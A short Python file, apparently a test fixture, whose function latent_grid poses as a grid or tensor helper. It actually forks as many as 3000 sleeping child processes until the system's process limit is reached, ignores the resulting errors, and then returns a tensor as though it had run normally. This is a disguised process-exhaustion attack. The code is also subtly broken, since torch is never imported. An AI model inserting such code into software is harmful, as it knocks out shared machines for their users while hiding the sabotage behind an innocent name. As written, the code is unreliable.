"""Forks as many children as it is allowed, which only sleep, and then goes on as if nothing were."""
# where: latent_grid
# lost: latent_grid
# seconds: 90

import os
import time


def latent_grid(n):
    for _ in range(3000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            time.sleep(0.01)
    return torch.zeros(n * n, 2)
